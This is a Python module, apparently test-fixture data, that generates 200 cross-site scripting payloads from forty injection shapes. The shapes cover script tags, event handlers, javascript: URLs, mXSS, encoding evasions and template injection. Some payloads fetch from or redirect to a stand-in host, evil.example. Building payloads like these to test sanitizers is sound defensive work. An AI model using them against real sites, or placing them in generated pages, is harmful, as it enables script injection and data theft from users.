"""Names and evidence as an attacker would have them: two hundred ways to get a browser to run something, or to ask somebody."""

from __future__ import annotations

from itertools import product

_CALLS = (
    "alert(1)",
    "window.pwned=1",
    "fetch('//evil.example/x')",
    "document.title='pwned'",
    "top.location='//evil.example'",
)
_SHAPES = (
    "<script>{call}</script>",
    "</style><script>{call}</script>",
    "</title></head><body onload={call}>",
    "<img src=x onerror={call}>",
    "<img src='//evil.example/i.png' onload=\"{call}\">",
    "<svg onload={call}>",
    "<svg><script>{call}</script></svg>",
    "<svg><animate onbegin={call} attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:{call}'><text x=20 y=20>x</text></a></svg>",
    '<iframe src="javascript:{call}"></iframe>',
    '<iframe srcdoc="<script>{call}</script>"></iframe>',
    '<object data="javascript:{call}"></object>',
    "<embed src='javascript:{call}'>",
    "<details open ontoggle={call}>",
    "<input autofocus onfocus={call}>",
    '<video><source onerror="{call}"></video>',
    "<audio src=x onerror={call}>",
    "<body onpageshow={call}>",
    "<marquee onstart={call}>",
    '<form action="javascript:{call}"><button autofocus>x</button></form>',
    '<meta http-equiv=refresh content="0;url=javascript:{call}">',
    "<base href='//evil.example/'><script src=x.js>{call}</script>",
    "<link rel=stylesheet href='//evil.example/{call}.css'>",
    "<style>@import '//evil.example/{call}.css';</style>",
    "<math><mtext><table><mglyph><style><img src=x onerror={call}>",
    '<noscript><p title="</noscript><img src=x onerror={call}>">',
    "<template><script>{call}</script></template>",
    '<a href="javascript:{call}" autofocus onfocus={call}>x</a>',
    '" onmouseover={call} style=position:fixed;inset:0 x="',
    "' autofocus onfocus={call} x='",
    "--><script>{call}</script><!--",
    "]]><script>{call}</script>",
    "{{{{ ''.__class__.__mro__ }}}}{{% for x in y %}}<script>{call}</script>",
    "${{{call}}}`<img src=x onerror={call}>`",
    "&lt;script&gt;{call}&lt;/script&gt;&#60;img src=x onerror={call}&#62;",
    "\u202e\u0000\u2028<script\u0020>{call}</script\n>",
    "<ScRiPt\t>{call}</sCrIpT>",
    "<<script>{call}//<</script>",
    "\ufeff\uff1cscript\uff1e{call}\uff1c/script\uff1e",
    "<x onclick={call} tabindex=0 autofocus onfocus={call}>",
)
VECTORS = tuple(shape.format(call=call) for shape, call in product(_SHAPES, _CALLS))
